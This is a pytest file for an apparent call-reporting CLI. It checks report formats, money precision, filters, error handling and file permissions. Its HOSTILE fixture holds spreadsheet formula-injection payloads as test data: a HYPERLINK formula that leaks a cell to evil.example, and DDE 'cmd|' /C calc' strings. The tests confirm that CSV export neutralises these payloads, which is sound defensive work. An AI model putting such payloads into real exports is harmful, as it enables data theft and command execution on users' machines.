"""``smdrd report``: the same figures as the builders, in JSON, CSV, a text table and HTML, from a config file."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from smdrd import cli
from smdrd.reports.render import hms
from smdrd.testing import config_toml, daemon_config
from tests.test_reports import CALLS, DEPARTMENTS, Call, write_calls


def config_text(db: Path, decimals: int = 2) -> str:
    """The configuration `tests.test_reports` gives its builders (EUR, its `DEPARTMENTS`), as the file
    ``smdrd report`` reads, on the database ``db``."""
    return config_toml(daemon_config(db.parent, database={"path": str(db)},
                                     tariff={"currency": "EUR", "decimals": decimals}, departments=DEPARTMENTS))



@pytest.fixture(autouse=True)
def _report_command(monkeypatch: pytest.MonkeyPatch) -> None:
    # The lead engineer registers the command in smdrd.cli.COMMANDS; until then the tests add it themselves.
    if "report" not in cli.COMMANDS:
        monkeypatch.setattr(cli, "COMMANDS", (*cli.COMMANDS, "report"))


@pytest.fixture
async def config(tmp_path: Path) -> Path:
    db = tmp_path / "smdrd.db"
    await write_calls(db, CALLS)
    path = tmp_path / "smdrd.toml"
    path.write_text(config_text(db))
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    status = cli.main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


MARCH = ("--from", "2026-03-01", "--to", "2026-03-31")


def test_json_extensions_have_the_documented_keys_and_exact_money(config: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """Scripts read these keys: extension, department, calls, duration, average (one decimal), cost (string)."""
    status, out, _ = run(capsys, "report", "extensions", *MARCH, "--config", str(config), "--format", "json")
    assert status == 0
    data = json.loads(out)
    assert data["rows"][0] == {"extension": "201", "department": "Sales", "calls": 2, "duration": 180,
                               "average": 90.0, "cost": "0.80"}
    assert data["rows"][-1]["department"] == "Unassigned"
    assert data["totals"] == {"calls": 8, "duration": 1600, "average": 200.0, "cost": "8.35"}
    assert (data["from"], data["to"], data["currency"], data["timezone"]) == (
        "2026-03-01", "2026-03-31", "EUR", "Europe/Warsaw")


def test_json_departments_rows_have_department_instead_of_extension(config: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """departments rows: the department (with its parent and budget) instead of the extension."""
    _, out, _ = run(capsys, "report", "departments", *MARCH, "--config", str(config), "--format", "json")
    rows = json.loads(out)["rows"]
    assert rows[1] == {"department": "Sales", "parent": "Company", "calls": 4, "duration": 570,
                       "average": 142.5, "cost": "3.15", "budget": "300.00"}
    assert "extension" not in rows[1]


def test_cost_uses_the_tariff_decimals(tmp_path: Path, config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """[tariff] decimals = 3 shows 8.350, never a float such as 8.349999."""
    config.write_text(config.read_text().replace("decimals = 2", "decimals = 3"))
    _, out, _ = run(capsys, "report", "extensions", *MARCH, "--config", str(config), "--format", "json")
    assert json.loads(out)["totals"]["cost"] == "8.350"


def test_csv_has_a_header_rows_and_a_total_line(config: Path, capsys: pytest.CaptureFixture[str],
                                                tmp_path: Path) -> None:
    """A spreadsheet gets one header, one line per extension and a Total line, written to --output."""
    out_file = tmp_path / "ext.csv"
    status, out, _ = run(capsys, "report", "extensions", *MARCH, "--config", str(config), "--format", "csv",
                         "--output", str(out_file))
    assert status == 0 and out == ""
    rows = list(csv.reader(io.StringIO(out_file.read_text(encoding="utf-8-sig"))))
    assert rows[0] == ["extension", "department", "calls", "duration", "average", "cost"]
    assert rows[1] == ["201", "Sales", "2", "180", "90.0", "0.80"]
    assert rows[-1] == ["Total", "", "8", "1600", "200.0", "8.35"]
    assert len(rows) == 9


def test_table_and_html_formats(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The terminal table and the HTML file both show every department and the totals."""
    _, table, _ = run(capsys, "report", "departments", *MARCH, "--config", str(config))
    assert "Sales North" in table and "Unassigned" in table
    total_line = table.splitlines()[-1]
    assert total_line.split()[:2] == ["Total", "8"] and "8.35" in total_line
    _, page, _ = run(capsys, "report", "departments", *MARCH, "--config", str(config), "--format", "html")
    assert page.startswith("<!DOCTYPE html>") and "<td>Sales North</td>" in page and "<script" not in page


def test_database_override_and_filters(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """--database points at another file; --direction all and --class narrow and widen the same way."""
    other = tmp_path / "copy.db"
    other.write_bytes((tmp_path / "smdrd.db").read_bytes())
    _, out, _ = run(capsys, "report", "extensions", *MARCH, "--config", str(config), "--database", str(other),
                    "--direction", "all", "--class", "international", "--format", "json")
    assert json.loads(out)["totals"]["calls"] == 2


def test_user_errors_exit_2_with_a_message(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A typo in a date or department, or a missing database, is explained instead of a traceback."""
    with pytest.raises(SystemExit) as exc:
        cli.main(["report", "extensions", "--from", "2026-3-1x", "--config", str(config)])
    assert exc.value.code == 2 and "from: expected a date" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        cli.main(["report", "departments", "--department", "Nowhere", "--config", str(config)])
    assert "unknown department 'Nowhere'" in capsys.readouterr().err
    status, _, err = run(capsys, "report", "extensions", "--config", str(config),
                         "--database", str(tmp_path / "missing.db"))
    assert status == 2 and "no such database" in err


#: Calls whose extension, number and trunk came from a hostile PBX line (issue 11, finding 3), and one that
#: dialled an E.164 number, which must stay a number a person can dial.
HOSTILE = [
    Call("2026-03-02T10:15:00", "=1+2", "outbound", "national", 120, "0.50", trunk="@SUM(1+1)",
         number="+cmd|' /C calc'!A0"),
    Call("2026-03-03T10:15:00", "-2+3", "outbound", "national", 60, "0.25", trunk="\uff1dcmd|' /C calc'!A0",
         number='=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    Call("2026-03-04T10:15:00", "201", "outbound", "international", 60, "1.00", trunk="T1",
         number="+442071234567"),
]


@pytest.fixture
async def hostile(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.db"
    await write_calls(db, HOSTILE)
    path = tmp_path / "hostile.toml"
    path.write_text(config_text(db))
    return path


def _formula(cell: str) -> bool:
    return cell.lstrip()[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20") and not cell.lstrip("+-").isdigit()


@pytest.mark.parametrize(("kind", "raw"), [("calls", "=1+2"), ("extensions", "-2+3"), ("trunks", "@SUM(1+1)")])
def test_csv_neutralises_formulas_from_the_pbx(hostile: Path, capsys: pytest.CaptureFixture[str], kind: str,
                                               raw: str) -> None:
    """A caller ID such as =HYPERLINK(...) reaches the CSV with a leading quote; +442071234567 stays as it is."""
    status, out, _ = run(capsys, "report", kind, *MARCH, "--config", str(hostile), "--format", "csv")
    assert status == 0
    cells = [c for row in csv.reader(io.StringIO(out, newline="")) for c in row]
    assert not [c for c in cells if _formula(c)], out
    assert "'" + raw in cells
    if kind == "calls":
        assert {"'=1+2", "'-2+3", "'+cmd|' /C calc'!A0", '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                "'@SUM(1+1)", "'\uff1dcmd|' /C calc'!A0", "+442071234567"} <= set(cells)
    # the JSON is data, not a spreadsheet: it keeps the values exactly as the PBX sent them
    _, page, _ = run(capsys, "report", kind, *MARCH, "--config", str(hostile), "--format", "json")
    assert raw in {str(v) for row in json.loads(page)["rows"] for v in row.values()}


async def test_to_csv_neutralises_every_row(hostile: Path) -> None:
    """`to_csv` itself (what /api/reports/*?format=csv sends) writes no formula, whatever the report."""
    from smdrd.config import load_config
    from smdrd.reports.queries import KINDS, context_from, parse_query, run_report
    from smdrd.reports.render import to_csv
    from smdrd.store.sqlite.reports import SqliteReports

    settings = load_config(hostile, use_env=False)
    ctx = context_from(settings)
    conn = SqliteReports(settings.database.path)
    try:
        for kind in KINDS:
            query = parse_query({"kind": [kind], "from": ["2026-03-01"], "to": ["2026-03-31"],
                                 "direction": ["all"]}, ctx)
            text = to_csv(run_report(conn, query, ctx))
            assert not [c for row in csv.reader(io.StringIO(text, newline="")) for c in row if _formula(c)], text
    finally:
        conn.close()


@pytest.mark.parametrize("umask", [0o000, 0o022])
def test_output_file_is_private_whatever_the_umask(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                   umask: int) -> None:
    """--output holds every call's number: mode 0600 even under umask 000, also over an existing 0644 file."""
    out_file = tmp_path / "calls.csv"
    out_file.write_text("old")
    out_file.chmod(0o644)
    old = os.umask(umask)
    try:
        status, _, _ = run(capsys, "report", "calls", *MARCH, "--config", str(config), "--format", "csv",
                           "--output", str(out_file))
    finally:
        os.umask(old)
    assert status == 0
    assert stat.S_IMODE(out_file.stat().st_mode) == 0o600
    assert out_file.read_text().startswith("\ufeffstart,extension")  # a byte order mark: Excel reads UTF-8
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == [], "no temporary file left"


def report_subprocess(config: Path, *args: str) -> str:
    """``smdrd report KIND`` for March, run as a user runs it."""
    result = subprocess.run([sys.executable, "-m", "smdrd", "report", *args, *MARCH, "--config", str(config)],
                            capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_table_shows_durations_as_hms_and_money_with_the_currency(config: Path) -> None:
    """Extension 201: two calls, 180 s, 90 s on average, 0.80 EUR (issue 18, item 11)."""
    table = report_subprocess(config, "extensions")
    head = next(line for line in table.splitlines() if line.startswith("Extension"))
    assert head.split() == ["Extension", "Department", "Calls", "Duration", "Average", "Cost"]
    row = next(line for line in table.splitlines() if line.startswith("201 "))
    assert row.split() == ["201", "Sales", "2", "0:03:00", "0:01:30", "0.80", "EUR"]
    total = table.splitlines()[-1].split()
    assert total[0] == "Total" and total[2] == "0:26:40" and total[-2:] == ["8.35", "EUR"]


def test_csv_keeps_plain_seconds_and_decimals(config: Path) -> None:
    csv_lines = report_subprocess(config, "extensions", "--format", "csv").splitlines()
    assert csv_lines[0] == "\ufeffextension,department,calls,duration,average,cost"  # the BOM: Excel reads UTF-8
    assert "201,Sales,2,180,90.0,0.80" in csv_lines


@pytest.mark.parametrize(("seconds", "shown"), [(0, "0:00:00"), (59, "0:00:59"), (125, "0:02:05"),
                                                (Decimal("89.5"), "0:01:30"), (100_000, "27:46:40")])
def test_hms(seconds: int | Decimal, shown: str) -> None:
    assert hms(seconds) == shown
